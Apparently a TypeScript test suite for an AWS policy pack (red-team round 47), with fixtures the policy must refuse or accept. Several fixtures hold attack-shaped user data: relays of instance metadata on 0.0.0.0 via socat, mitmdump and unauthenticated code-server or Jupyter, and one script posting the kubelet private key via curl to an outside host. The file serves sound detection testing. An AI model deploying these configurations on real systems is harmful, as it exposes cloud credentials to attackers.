// Red-team round 47 on the AWS level (fresh eyes) on the committed stacks. Probed round 46's AWS changes: launch
// template versions (compute.ts unseenVersion) when the unseen version's instance PROFILE, not only its user data, is
// what the stack cannot show; instances whose user data (not only profile) comes from a launch template outside the
// stack; Jupyter/code-server/mitmproxy configuration read from where those programs really look (CODE_SERVER_CONFIG,
// several Python statements on one line, mitmproxy reverse mode to instance metadata); the inert JSON/YAML user data
// rule against YAML that another boot reader runs (a Talos machine configuration); table sub-resource matching per
// action (build.ts tablePartsOf). Secure shapes: numbered latest versions, EC2 Fleet at its latest version, explicit
// overrides of an outside template, loopback/password configurations, reverse proxies to other hosts, inert settings,
// stream/restore actions on names no custody table can have.
// Misses are `skip` with a MISS comment.
import { describeVariants, doc, find, Resources, setProp } from "./support";
import { ACCOUNT, beside } from "./awsCaseBuilders";
import { al2023Nodes, describeNodeCases, EFFECTIVE, withScript } from "./nodeBuilders";
import { nodePolicyConfig } from "./packRunner";
import {
    CALLER_ROLE,
    groupOfB,
    HARMLESS,
    IMDS_RELAY,
    instanceOfB,
    METADATA,
    tableRole,
    templateOfB,
    twoVersionTemplateOfB,
} from "./callerInstanceBuilders";

const ROLE = "aws:iam/role:Role";
const DEV = ACCOUNT.dev;

type Case = {
    name: string;
    stack: string;
    preview?: boolean;
    edit: (r: Resources) => void;
    refused?: RegExp;
    policy?: string;
    /** A known miss left for later: "MISS: <why>". */
    skip?: string;
};

const RELAY_DATA = `#!/bin/bash\nnohup ${IMDS_RELAY} &\n`;
const EXTERNAL_LT = { id: "lt-0fede1234abcd5678", version: "$Latest" };

const insecure: Case[] = [
    // Was a MISS (fixed in round 47): an instance with its own instance-role profile launched from a launch template outside the stack, no user
    // data of its own: EC2 takes every parameter not given at launch (user data included) from that template, which the
    // stack cannot show, so the template's user data may relay instance metadata, and whoever reaches it holds
    // instance-role (then the access role). compute.ts instanceProfileOpenings judges the instance's own (empty) user
    // data only; round 46's unseenVersion refuses exactly this for an older version of a STACK template. Fix: an
    // instance naming a template outside the stack with no own user data (or no own profile) fails closed like an unseen
    // version. Doc: EC2 user guide, "Launch an instance from a launch template" (parameters from the template unless
    // overridden at launch); EC2 API RunInstances LaunchTemplate.
    {
        name: "cross-account: an instance with the caller's own instance profile (instance-role) launched from a launch template outside the stack, no user data of its own (the template's user data runs)",
        stack: "cross-account",
        refused: /caller-profile-external-data/,
        edit: r =>
            void beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-profile-external-data",
                { launchTemplate: EXTERNAL_LT, iamInstanceProfile: "instance-role", metadataOptions: METADATA },
                find(r, ROLE, CALLER_ROLE),
            ),
    },
    // Was a MISS (fixed in round 47): the group pins version 1 of caller-lt-old-profile; version 2 (the only one the stack shows) names no instance
    // profile, so compute.ts unseen() hands nothing to anyone (launchProfile(lt) undefined) although version 1's
    // instance profile is as unseen as its user data (a version is immutable: the profile an older `pulumi up` wrote,
    // e.g. instance-role, still launches, with whatever user data it had). Fix: for an unseen version, fail closed on
    // every instance profile of the template's account (as round 46 does for a template outside the stack), not only the
    // latest version's. Doc: EC2 Auto Scaling API, LaunchTemplateSpecification.Version; EC2 user guide, "Modify a launch
    // template (manage launch template versions)" (versions cannot be modified; each holds its own parameters).
    {
        name: 'cross-account: an Auto Scaling group launches version "1" of a launch template whose latest version 2 names no instance profile (version 1\'s profile and user data are not shown)',
        stack: "cross-account",
        refused: /caller-asg-old-profile|caller-lt-old-profile/,
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-old-profile", "lt-0abcd0001ef000002", {
                iamInstanceProfile: undefined,
            });
            groupOfB(r, "caller-asg-old-profile", { id: "lt-0abcd0001ef000002", version: "1" });
        },
    },
    // Was a MISS (fixed in round 47): same gap on an instance: its own user data relays instance metadata on 0.0.0.0:8080 and its profile comes
    // from version 1 of caller-lt-noprofile, whose latest version names none: compute.ts judges the relay against the
    // latest version's profile (none) and refuses nothing, while version 1 may hold instance-role. Fix: an instance
    // launching an unseen version takes any profile of its account when it names none of its own. Doc: as above.
    {
        name: 'cross-account: an instance relays instance metadata on 0.0.0.0:8080 from its own user data and takes its profile from version "1" of a stack launch template whose latest version names no profile',
        stack: "cross-account",
        refused: /caller-relay-old-version/,
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-noprofile", "lt-0abcd0003ef000004", { iamInstanceProfile: undefined });
            beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-relay-old-version",
                { launchTemplate: { id: "lt-0abcd0003ef000004", version: "1" }, userData: RELAY_DATA },
                find(r, ROLE, CALLER_ROLE),
            );
        },
    },
    // Neighbours of the three above: whatever an instance or launcher takes from a version the stack does not show
    // fails closed, the profile as any of its account (the caller's instance-role) and the user data as unread.
    {
        name: "cross-account: an instance launched from a launch template outside the stack with neither a profile nor user data of its own (both from the template)",
        stack: "cross-account",
        refused: /caller-external-all[\s\S]*not a resource of this stack/,
        edit: r =>
            void beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-external-all",
                { launchTemplate: EXTERNAL_LT, metadataOptions: METADATA },
                find(r, ROLE, CALLER_ROLE),
            ),
    },
    {
        name: "cross-account: an Auto Scaling group launches $Default (version 1) of a launch template whose latest version 2 names no instance profile",
        stack: "cross-account",
        refused: /caller-asg-default-old/,
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-default-old", "lt-0abcd0011ef000012", {
                defaultVersion: 1,
                iamInstanceProfile: undefined,
            });
            groupOfB(r, "caller-asg-default-old", { id: "lt-0abcd0011ef000012", version: "$Default" });
        },
    },
    {
        name: 'cross-account: an instance launches version "1" of a launch template whose latest version 2 names no instance profile, with neither a profile nor user data of its own',
        stack: "cross-account",
        refused: /caller-instance-old-version/,
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-old-both", "lt-0abcd0013ef000014", { iamInstanceProfile: undefined });
            beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-instance-old-version",
                { launchTemplate: { id: "lt-0abcd0013ef000014", version: "1" } },
                find(r, ROLE, CALLER_ROLE),
            );
        },
    },
    // Was a MISS (fixed in round 47): code-server reads its configuration from $CODE_SERVER_CONFIG when --config is not given (src/node/cli.ts
    // readConfigFile: `configPath = process.env.CODE_SERVER_CONFIG`, else ~/.config/code-server/config.yaml), so this
    // instance serves VS Code's terminal (root, instance-role through IMDS) with no authentication on every address.
    // userData.ts browserIdeListeners reads only --config or the home default (absent → default password auth).
    // Fix: honour a CODE_SERVER_CONFIG assignment in the command's environment (and XDG_CONFIG_HOME for the default
    // path); an unread value fails closed like an unread --config. Doc: coder/code-server src/node/cli.ts readConfigFile.
    {
        name: "cross-account: the caller's instance writes /etc/code-server/config.yaml (bind-addr 0.0.0.0:8080, auth: none) and runs code-server with CODE_SERVER_CONFIG naming it",
        stack: "cross-account",
        refused: /caller-code-server-env/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-code-server-env",
                "#cloud-config\nwrite_files:\n  - path: /etc/code-server/config.yaml\n    content: |\n      bind-addr: 0.0.0.0:8080\n      auth: none\n      cert: false\nruncmd:\n  - curl -fsSL https://code-server.dev/install.sh | sh\n  - CODE_SERVER_CONFIG=/etc/code-server/config.yaml nohup code-server /srv > /var/log/code-server.log 2>&1 &\n",
            ),
    },
    // Was a MISS (fixed in round 47): jupyterConfigSettings reads a .py config by one `c.Class.trait = literal` per line, so
    // `c.ServerApp.ip = '0.0.0.0'; c.ServerApp.token = ''` yields ip = "0.0.0.0'; c.ServerApp.token = '" and no token:
    // Jupyter (Python runs both statements) serves terminals as root on every address with no token. Fix: split .py
    // lines on top-level `;`, and treat any line of a config file the reader cannot parse (not a literal assignment,
    // comment or get_config()) as unknown, i.e. open. Doc: Python reference, "Simple statements" (statements separated by
    // semicolons); Jupyter Server docs, "Config file and command line options".
    {
        name: "cross-account: the caller's instance writes jupyter_server_config.py with ip and an empty token on one line (`c.ServerApp.ip = '0.0.0.0'; c.ServerApp.token = ''`) and runs jupyter lab",
        stack: "cross-account",
        refused: /caller-jupyter-one-line/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-one-line",
                "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c = get_config()\n      c.ServerApp.ip = '0.0.0.0'; c.ServerApp.token = ''\n      c.ServerApp.open_browser = False\nruncmd:\n  - nohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
            ),
    },
    // Was a MISS (fixed in round 47): the documented way to configure Jupyter is `jupyter lab --generate-config` (writes
    // /root/.jupyter/jupyter_lab_config.py with every option commented out) then editing it; here sed uncomments ip
    // 0.0.0.0 and an empty token, so jupyter lab serves a root shell to the network. The pack cannot read the generated
    // file nor the sed edit and takes Jupyter's defaults (localhost, token). Fix: a Jupyter config file in the
    // directories read that user data edits (sed -i, >>, tee -a) or has generated is unknown content: treat as an unread
    // --config (open). Doc: Jupyter Server docs, "Config file and command line options" (--generate-config); JupyterLab
    // docs, "Starting JupyterLab".
    {
        name: "cross-account: the caller's instance generates Jupyter's config (jupyter lab --generate-config), seds ip to 0.0.0.0 and an empty token into it, and runs jupyter lab",
        stack: "cross-account",
        refused: /caller-jupyter-sed/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-sed",
                "#!/bin/bash\npip3 install jupyterlab\njupyter lab --generate-config --allow-root\nsed -i -e \"s/^# c.ServerApp.ip = .*/c.ServerApp.ip = '0.0.0.0'/\" -e \"s/^# c.IdentityProvider.token = .*/c.IdentityProvider.token = ''/\" /root/.jupyter/jupyter_lab_config.py\nnohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance runs mitmdump in reverse mode to instance metadata (--mode reverse:http://169.254.169.254/) on every address",
        stack: "cross-account",
        refused: /caller-mitm-reverse/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-mitm-reverse",
                "#!/bin/bash\npip3 install mitmproxy\nnohup mitmdump --mode reverse:http://169.254.169.254/ --listen-host 0.0.0.0 --listen-port 8080 &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance writes ~/.mitmproxy/config.yaml (mode reverse:http://169.254.169.254/, listen_host 0.0.0.0) and runs mitmdump",
        stack: "cross-account",
        refused: /caller-mitm-reverse-config/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-mitm-reverse-config",
                "#cloud-config\nwrite_files:\n  - path: /root/.mitmproxy/config.yaml\n    content: |\n      mode:\n        - reverse:http://169.254.169.254/\n      listen_host: 0.0.0.0\n      listen_port: 8080\nruncmd:\n  - nohup mitmdump > /var/log/mitmdump.log 2>&1 &\n",
            ),
    },
    // Was a MISS (fixed in round 47): Talos Linux (official AWS AMIs) takes its machine configuration from EC2 user data as YAML (`version:
    // v1alpha1`, `machine`, `cluster`), and `machine.pods` are static pods the kubelet runs directly: this one relays
    // instance metadata on the host network, 0.0.0.0:8080 (instance-role for anyone reaching it). Round 46's inertData
    // treats any single-document YAML without `tasks`/`ignition` keys as inert app settings, so nothing is refused.
    // Fix: add Talos's marks (`version: v1alpha1` with `machine`/`cluster`, or any `machine:` document) to the runnable
    // formats (unread → refused), and prefer an allowlist of inert shapes over a denylist of runnable ones. Doc: Talos
    // docs, "AWS" (aws ec2 run-instances --user-data file://controlplane.yaml), "Static Pods" (machine.pods).
    {
        name: "cross-account: the caller's instance boots Talos Linux with a machine configuration (YAML user data) whose static pod relays instance metadata on the host network",
        stack: "cross-account",
        refused: /caller-talos/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-talos",
                [
                    "version: v1alpha1",
                    "machine:",
                    "  type: worker",
                    "  token: 328hom.uqjzh6jnn2eie9oi",
                    "  pods:",
                    "    - apiVersion: v1",
                    "      kind: Pod",
                    "      metadata:",
                    "        name: metadata-relay",
                    "      spec:",
                    "        hostNetwork: true",
                    "        containers:",
                    "          - name: relay",
                    "            image: alpine/socat:1.8.0.0",
                    '            args: ["TCP-LISTEN:8080,fork,bind=0.0.0.0", "TCP:169.254.169.254:80"]',
                    "cluster:",
                    "  controlPlane:",
                    "    endpoint: https://10.0.1.10:6443",
                    "",
                ].join("\n"),
            ),
    },
    {
        name: "dev: a role may read the stream records of every custody-dev-* table whose stream was enabled in 2026 (table/custody-dev-*/stream/2026-*)",
        stack: "dev",
        refused: /stream-2026[\s\S]*custody-dev-/,
        policy: "custody-effective-access",
        edit: r =>
            void tableRole(r, "stream-2026", [
                ["dynamodb:DescribeStream", "dynamodb:GetShardIterator", "dynamodb:GetRecords"],
                "table/custody-dev-*/stream/2026-*",
            ]),
    },
    {
        name: "dev: a role may RestoreTableFromBackup on the keystore's backups named by their shape (table/custody-dev-keystore/backup/??????????????-????????)",
        stack: "dev",
        refused: /restore-shape[\s\S]*custody-dev-keystore/,
        policy: "custody-effective-access",
        edit: r =>
            void tableRole(r, "restore-shape", [
                ["dynamodb:RestoreTableFromBackup"],
                "table/custody-dev-keystore/backup/??????????????-????????",
            ]),
    },
    // Neighbours of the configuration readers fixed in round 47 (CODE_SERVER_CONFIG, Python statements, changed files).
    {
        name: "cross-account: the caller's instance runs code-server from a systemd unit whose Environment= sets CODE_SERVER_CONFIG to a config with auth: none on 0.0.0.0:8080",
        stack: "cross-account",
        refused: /caller-code-server-unit-env/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-code-server-unit-env",
                "#cloud-config\nwrite_files:\n  - path: /etc/code-server/open.yaml\n    content: |\n      bind-addr: 0.0.0.0:8080\n      auth: none\n  - path: /etc/systemd/system/ide.service\n    content: |\n      [Service]\n      Environment=CODE_SERVER_CONFIG=/etc/code-server/open.yaml\n      ExecStart=/usr/bin/code-server /srv\n      [Install]\n      WantedBy=multi-user.target\nruncmd:\n  - systemctl enable --now ide.service\n",
            ),
    },
    {
        name: "cross-account: the caller's instance exports CODE_SERVER_CONFIG naming a config it downloads from S3 (content the pack cannot read) and runs code-server",
        stack: "cross-account",
        refused: /caller-code-server-env-download/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-code-server-env-download",
                "#!/bin/bash\nexport CODE_SERVER_CONFIG=/etc/code-server/config.yaml\naws s3 cp s3://caller-config/code-server.yaml /etc/code-server/config.yaml\nnohup code-server /srv &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance writes jupyter_server_config.py setting ip 127.0.0.1, then exec()s another file (a statement the pack cannot read), and runs jupyter lab",
        stack: "cross-account",
        refused: /caller-jupyter-exec/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-exec",
                "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c.ServerApp.ip = '127.0.0.1'\n      exec(open('/opt/jupyter/extra.py').read())\nruncmd:\n  - nohup jupyter lab --allow-root &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance writes jupyter_server_config.py (ip 0.0.0.0 with a token), deletes the token line with sed -i '/token/d', and runs jupyter lab",
        stack: "cross-account",
        refused: /caller-jupyter-sed-delete/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-sed-delete",
                "#!/bin/bash\nmkdir -p /root/.jupyter\ncat > /root/.jupyter/jupyter_server_config.py <<'EOF'\nc.ServerApp.ip = '0.0.0.0'\nc.IdentityProvider.token = 'a3f9c2e4b7d1'\nEOF\nsed -i '/token/d' /root/.jupyter/jupyter_server_config.py\nnohup jupyter lab --allow-root &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance writes jupyter_server_config.py (ip 0.0.0.0 with a token), appends an empty token to it with >>, and runs jupyter server",
        stack: "cross-account",
        refused: /caller-jupyter-append/,
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-append",
                "#!/bin/bash\nmkdir -p /root/.jupyter\ncat > /root/.jupyter/jupyter_server_config.py <<'EOF'\nc.ServerApp.ip = '0.0.0.0'\nc.IdentityProvider.token = 'a3f9c2e4b7d1'\nEOF\necho \"c.IdentityProvider.token = ''\" >> /root/.jupyter/jupyter_server_config.py\nnohup jupyter server --allow-root &\n",
            ),
    },
];

const secure: Case[] = [
    // Neighbours of the round-47 launch template fixes: a version the stack shows is judged by what it shows, and user
    // data the stack shows stays judged as read even when the profile comes from an unseen version.
    {
        name: 'cross-account: an Auto Scaling group launches version "2" (the latest, shown) of a launch template naming no instance profile',
        stack: "cross-account",
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-shown-noprofile", "lt-0abcd0015ef000016", {
                iamInstanceProfile: undefined,
            });
            groupOfB(r, "caller-asg-shown-noprofile", { id: "lt-0abcd0015ef000016", version: "2" });
        },
    },
    {
        name: "cross-account: an Auto Scaling group launches $Default and an instance $Latest of a launch template with one version (every version shown)",
        stack: "cross-account",
        edit: r => {
            templateOfB(r, "caller-lt-one-version", "lt-0abcd0017ef000018", HARMLESS);
            groupOfB(r, "caller-asg-one-version", { id: "lt-0abcd0017ef000018", version: "$Default" });
            beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-instance-latest",
                { launchTemplate: { id: "lt-0abcd0017ef000018", version: "$Latest" } },
                find(r, ROLE, CALLER_ROLE),
            );
        },
    },
    {
        name: 'cross-account: an instance relays instance metadata from its own user data and takes its profile from version "2" (the latest, shown) of a launch template naming none (no role to reach)',
        stack: "cross-account",
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-shown-relay", "lt-0abcd0019ef000020", {
                iamInstanceProfile: undefined,
            });
            beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-relay-shown-version",
                { launchTemplate: { id: "lt-0abcd0019ef000020", version: "2" }, userData: RELAY_DATA },
                find(r, ROLE, CALLER_ROLE),
            );
        },
    },
    {
        name: 'cross-account: an instance with its own user data that only installs updates takes its profile from version "1" of a launch template (an unseen version: any profile, but nothing opened)',
        stack: "cross-account",
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-old-harmless", "lt-0abcd0021ef000022");
            beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-own-data-old-version",
                { launchTemplate: { id: "lt-0abcd0021ef000022", version: "1" }, userData: HARMLESS },
                find(r, ROLE, CALLER_ROLE),
            );
        },
    },
    {
        name: "cross-account: an instance from a launch template outside the stack with its own user data that only installs updates and no profile of its own",
        stack: "cross-account",
        edit: r =>
            void beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-external-own-data",
                { launchTemplate: EXTERNAL_LT, userData: HARMLESS, metadataOptions: METADATA },
                find(r, ROLE, CALLER_ROLE),
            ),
    },
    {
        name: "cross-account: an Auto Scaling group launches version 2 (a number, as latestVersion outputs it) of the caller's launch template at version 2",
        stack: "cross-account",
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-num", "lt-0abcd0005ef000006", { defaultVersion: 1 });
            groupOfB(r, "caller-asg-num", { id: "lt-0abcd0005ef000006", version: 2 });
        },
    },
    {
        name: "cross-account: an EC2 Fleet launches version 2 of the caller's launch template, its latest (launchTemplateId)",
        stack: "cross-account",
        edit: r => {
            twoVersionTemplateOfB(r, "caller-lt-fleet", "lt-0abcd0007ef000008");
            beside(
                r,
                "cross-account",
                "aws:ec2/fleet:Fleet",
                "caller-fleet",
                {
                    type: "maintain",
                    launchTemplateConfigs: [
                        { launchTemplateSpecification: { launchTemplateId: "lt-0abcd0007ef000008", version: "2" } },
                    ],
                    targetCapacitySpecification: { defaultTargetCapacityType: "spot", totalTargetCapacity: 1 },
                },
                find(r, ROLE, CALLER_ROLE),
            );
        },
    },
    {
        name: "cross-account: an instance from a launch template outside the stack with the caller's profile and its own user data that only installs updates (both override the template)",
        stack: "cross-account",
        edit: r =>
            void beside(
                r,
                "cross-account",
                "aws:ec2/instance:Instance",
                "caller-external-own-all",
                {
                    launchTemplate: EXTERNAL_LT,
                    iamInstanceProfile: "instance-role",
                    userData: HARMLESS,
                    metadataOptions: METADATA,
                },
                find(r, ROLE, CALLER_ROLE),
            ),
    },
    {
        name: "cross-account: the caller's instance runs code-server --config /etc/code-server/config.yaml (bind-addr 0.0.0.0:8080, auth: password with a hashed password)",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-code-server-etc",
                '#cloud-config\nwrite_files:\n  - path: /etc/code-server/config.yaml\n    content: |\n      bind-addr: 0.0.0.0:8080\n      auth: password\n      hashed-password: "$argon2i$v=19$m=4096,t=3,p=1$c2FsdHNhbHQ$6q8mV1Yc9wXo1nE3d2m0jq9yR0f3dE6pB0mQk2wXy0g"\nruncmd:\n  - nohup code-server --config /etc/code-server/config.yaml /srv &\n',
            ),
    },
    {
        name: "cross-account: the caller's instance writes /etc/jupyter/jupyter_server_config.json (ip localhost, empty token) and runs jupyter lab behind an SSH tunnel",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-json-local",
                '#cloud-config\nwrite_files:\n  - path: /etc/jupyter/jupyter_server_config.json\n    content: |\n      {"ServerApp": {"ip": "localhost", "token": "", "open_browser": false}}\nruncmd:\n  - nohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n',
                { keyName: "ops-laptop" },
            ),
    },
    {
        name: "cross-account: the caller's instance writes jupyter_server_config.py with ip '::1' (IPv6 loopback) and an empty token",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-v6-local",
                "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c.ServerApp.ip = '::1'\n      c.IdentityProvider.token = ''\nruncmd:\n  - nohup jupyter lab --allow-root &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance runs mitmdump as a reverse proxy to an external API (--mode reverse:https://api.example.com/) on every address",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-mitm-reverse-api",
                "#!/bin/bash\npip3 install mitmproxy\nnohup mitmdump --mode reverse:https://api.example.com/ --listen-host 0.0.0.0 --listen-port 8080 &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance carries JSON application settings as user data (read by its app through IMDS, run by nothing)",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-json-settings",
                '{"service": "signer-client", "region": "eu-west-1", "endpoint": "https://signer.internal.example.com", "timeoutSeconds": 30}\n',
            ),
    },
    {
        name: "cross-account: a launch template's user data is YAML application settings (a list of feature flags)",
        stack: "cross-account",
        edit: r =>
            void templateOfB(
                r,
                "caller-lt-yaml-settings",
                "lt-0abcd0009ef000010",
                "service: signer-client\nfeatures:\n  - audit-log\n  - retries\nlog_level: info\n",
            ),
    },
    {
        name: "dev: a role reads the stream records of other teams' yearly tables (table/custody-dev-*-2024/stream/*: no custody table ends -2024)",
        stack: "dev",
        edit: r =>
            void tableRole(r, "stream-2024", [
                ["dynamodb:DescribeStream", "dynamodb:GetShardIterator", "dynamodb:GetRecords"],
                "table/custody-dev-*-2024/stream/*",
            ]),
    },
    {
        name: "dev: a role restores backups of the archive tables (table/custody-dev-*-archive/backup/*: no custody table ends -archive), as an operator role the dba role assumes",
        stack: "dev",
        edit: r =>
            setProp(
                tableRole(r, "archive-restore", [
                    ["dynamodb:RestoreTableFromBackup", "dynamodb:DescribeBackup"],
                    "table/custody-dev-*-archive/backup/*",
                ]),
                "assumeRolePolicy",
                doc({ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${DEV}:role/dba` }, Action: "sts:AssumeRole" }),
            ),
    },
    // Neighbours of the configuration readers fixed in round 47 (CODE_SERVER_CONFIG, Python statements, changed files).
    {
        name: "cross-account: the caller's instance runs code-server with CODE_SERVER_CONFIG naming a config with auth: password on 127.0.0.1:8080",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-code-server-env-local",
                "#cloud-config\nwrite_files:\n  - path: /etc/code-server/config.yaml\n    content: |\n      bind-addr: 127.0.0.1:8080\n      auth: password\n      cert: false\nruncmd:\n  - export CODE_SERVER_CONFIG=/etc/code-server/config.yaml; nohup code-server /srv > /var/log/code-server.log 2>&1 &\n",
            ),
    },
    {
        name: "cross-account: the caller's instance writes jupyter_server_config.py with ip localhost and an empty token on one line (`c.ServerApp.ip = 'localhost'; c.ServerApp.token = ''`) behind an SSH tunnel",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-one-line-local",
                "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c = get_config()  # noqa\n      c.ServerApp.ip = 'localhost'; c.ServerApp.token = ''  # tunnel only\n      c.ServerApp.tornado_settings = {\n          'headers': {'Content-Security-Policy': \"frame-ancestors 'self'\"},\n      }\nruncmd:\n  - nohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
                { keyName: "ops-laptop" },
            ),
    },
    {
        name: "cross-account: the caller's instance generates Jupyter's config, then writes the whole file with a heredoc (ip 127.0.0.1, empty token), chmods it and runs jupyter lab",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-heredoc",
                "#!/bin/bash\npip3 install jupyterlab\njupyter lab --generate-config --allow-root\ncat > /root/.jupyter/jupyter_lab_config.py <<'EOF'\nc.ServerApp.ip = '127.0.0.1'\nc.IdentityProvider.token = ''\nEOF\nchmod 600 /root/.jupyter/jupyter_lab_config.py\nnohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
                { keyName: "ops-laptop" },
            ),
    },
    {
        name: "cross-account: the caller's instance generates Jupyter's config (every option commented out: the defaults, localhost with a token) and runs jupyter lab",
        stack: "cross-account",
        edit: r =>
            void instanceOfB(
                r,
                "caller-jupyter-generated",
                "#!/bin/bash\npip3 install jupyterlab\njupyter lab --generate-config --allow-root\nnohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
            ),
    },
];

describeVariants("allowlist: red-team round 47 on the AWS level", insecure, secure);

// rootReads.ts secretPrintedBy (round 47): sed -i writes its output back into the file and prints nothing, so a
// variable assigned its output holds no node secret; sed printing the file (-n p) still does. Doc: GNU sed manual, -i.
const NODE_KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
const nodeScript = (name: string, line: string) => ({
    name,
    stack: "dev",
    config: nodePolicyConfig,
    policy: EFFECTIVE,
    edit: (r: Resources) =>
        void al2023Nodes(
            r,
            name,
            withScript([`OUT="$(${line})"`, 'curl -fsS -d "$OUT" https://inventory.example.com/nodes']),
        ),
});
describeNodeCases(
    "red team round 47: what sed prints from the node's secrets",
    [{ ...nodeScript("dev-sed-print-key-nodes", `sed -n p ${NODE_KEY}`), refused: /hands|kubelet/ }],
    [nodeScript("dev-sed-in-place-key-nodes", `sed -i '/^$/d' ${NODE_KEY}`)],
);
